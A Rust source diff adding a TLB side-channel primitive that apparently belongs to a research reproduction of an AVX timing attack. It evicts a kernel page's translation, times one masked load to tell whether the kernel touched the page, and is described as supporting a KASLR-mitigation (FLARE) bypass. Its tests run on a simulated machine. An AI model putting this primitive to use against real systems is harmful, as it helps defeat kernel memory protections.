@@ -1,0 +1,138 @@
+//! The TLB attack primitive (P4).
+//!
+//! Distinguishes whether a translation is currently cached in the TLB.
+//! The attack's recipe: evict the candidate's translation, wait for (or
+//! trigger) victim activity, then time a *single* masked op — a hit
+//! means someone used the page since the eviction. Used for the Fig. 6
+//! behaviour spy, the Windows entry-point refinement and the FLARE
+//! bypass (§V-A).
+
+use avx_mmu::VirtAddr;
+use avx_uarch::OpKind;
+
+use crate::calibrate::Threshold;
+use crate::prober::Prober;
+
+/// Observed TLB state of a candidate translation.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub enum TlbState {
+    /// The translation was cached: someone touched the page recently.
+    Hit,
+    /// The probe paid a full page walk: the page was idle.
+    Miss,
+}
+
+/// P4: TLB-state oracle.
+#[derive(Clone, Copy, Debug)]
+pub struct TlbAttack {
+    /// Latencies at or below this classify as hits. For kernel pages the
+    /// hit level is `base + assist` (≈ the mapped threshold), while a
+    /// post-eviction miss pays a cold walk several hundred cycles above
+    /// it — the gap is wide, so the boundary is uncritical.
+    pub hit_boundary: f64,
+}
+
+impl TlbAttack {
+    /// Derives the hit boundary from a calibrated mapped/unmapped
+    /// threshold: hits sit at the threshold level, cold misses far
+    /// above; place the boundary one gap above the threshold.
+    #[must_use]
+    pub fn from_threshold(threshold: &Threshold) -> Self {
+        Self {
+            hit_boundary: threshold.value + 60.0,
+        }
+    }
+
+    /// Builds with an explicit boundary (e.g. from a two-means split of
+    /// an observed trace).
+    #[must_use]
+    pub fn with_boundary(hit_boundary: f64) -> Self {
+        Self { hit_boundary }
+    }
+
+    /// Evicts the candidate's translation — the arming step.
+    pub fn arm<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) {
+        p.evict(addr);
+    }
+
+    /// Times one probe (single-shot: the probe itself refills the TLB,
+    /// so repeated measurement would self-pollute) and classifies it.
+    pub fn observe<P: Prober + ?Sized>(&self, p: &mut P, addr: VirtAddr) -> (TlbState, u64) {
+        let cycles = p.probe(OpKind::Load, addr);
+        (self.classify(cycles), cycles)
+    }
+
+    /// Classifies a latency.
+    #[must_use]
+    pub fn classify(&self, cycles: u64) -> TlbState {
+        if (cycles as f64) <= self.hit_boundary {
+            TlbState::Hit
+        } else {
+            TlbState::Miss
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::calibrate::Threshold;
+    use crate::prober::SimProber;
+    use avx_os::linux::{LinuxConfig, LinuxSystem};
+    use avx_uarch::{CpuProfile, NoiseModel};
+
+    fn prober(seed: u64) -> (SimProber, avx_os::LinuxTruth) {
+        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
+        let (mut m, truth) = sys.into_machine(CpuProfile::ice_lake_i7_1065g7(), seed);
+        m.set_noise(NoiseModel::none());
+        (SimProber::new(m), truth)
+    }
+
+    #[test]
+    fn armed_idle_page_misses() {
+        let (mut p, truth) = prober(1);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let attack = TlbAttack::from_threshold(&th);
+        let page = truth.module("bluetooth").unwrap().base;
+        attack.arm(&mut p, page);
+        let (state, cycles) = attack.observe(&mut p, page);
+        assert_eq!(state, TlbState::Miss, "{cycles} cycles");
+        assert!(cycles > 300, "cold walk expected, got {cycles}");
+    }
+
+    #[test]
+    fn kernel_activity_turns_miss_into_hit() {
+        let (mut p, truth) = prober(2);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let attack = TlbAttack::from_threshold(&th);
+        let page = truth.module("psmouse").unwrap().base;
+        attack.arm(&mut p, page);
+        // The victim (kernel driver) touches the page between arm and
+        // observe:
+        p.machine_mut().touch_as_kernel(page);
+        let (state, cycles) = attack.observe(&mut p, page);
+        assert_eq!(state, TlbState::Hit, "{cycles} cycles");
+    }
+
+    #[test]
+    fn probe_refill_is_visible_to_next_observation() {
+        let (mut p, truth) = prober(3);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let attack = TlbAttack::from_threshold(&th);
+        let page = truth.module("bluetooth").unwrap().base;
+        attack.arm(&mut p, page);
+        let (first, _) = attack.observe(&mut p, page);
+        assert_eq!(first, TlbState::Miss);
+        // No re-arm: the first probe cached the translation itself.
+        let (second, _) = attack.observe(&mut p, page);
+        assert_eq!(second, TlbState::Hit, "self-pollution without re-arm");
+    }
+
+    #[test]
+    fn classify_boundary() {
+        let attack = TlbAttack::with_boundary(150.0);
+        assert_eq!(attack.classify(93), TlbState::Hit);
+        assert_eq!(attack.classify(150), TlbState::Hit);
+        assert_eq!(attack.classify(151), TlbState::Miss);
+    }
+}
